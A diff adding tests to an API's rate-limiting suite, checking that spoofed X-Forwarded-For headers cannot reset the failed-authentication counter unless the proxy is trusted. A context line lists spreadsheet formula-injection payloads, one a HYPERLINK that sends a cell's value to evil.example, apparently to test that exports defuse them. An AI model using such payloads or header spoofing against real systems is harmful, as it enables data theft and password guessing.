@@ -56,6 +56,33 @@ describe('failed authentications', () => {
   });
 });
 
+describe('the client address behind a proxy', () => {
+  const wrong = `bcf_0123456789abcdef_${'x'.repeat(43)}`;
+  const guessFrom = (harness: Harness, forwardedFor: string) =>
+    harness.app.inject({
+      method: 'GET',
+      url: '/pools',
+      remoteAddress: '10.0.0.5',
+      headers: { authorization: `Bearer ${wrong}`, 'x-forwarded-for': forwardedFor },
+    });
+
+  it('ignores X-Forwarded-For unless the proxy is trusted, so a guesser cannot name itself anew', async () => {
+    api = await startHarness();
+    const statuses: number[] = [];
+    for (let attempt = 0; attempt < 11; attempt++)
+      statuses.push((await guessFrom(api, `198.51.100.${attempt}`)).statusCode);
+    expect(statuses).toEqual([...Array(10).fill(401), 429]);
+  });
+
+  it('counts each client apart behind a trusted proxy', async () => {
+    api = await startHarness({ config: { trustedProxies: ['10.0.0.0/8'] } });
+    for (let attempt = 0; attempt < 10; attempt++)
+      expect((await guessFrom(api, '198.51.100.1')).statusCode).toBe(401);
+    expect((await guessFrom(api, '198.51.100.1')).statusCode).toBe(429);
+    expect((await guessFrom(api, '198.51.100.2')).statusCode).toBe(401);
+  });
+});
+
 describe('documents a spreadsheet would run', () => {
   const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)'];
 
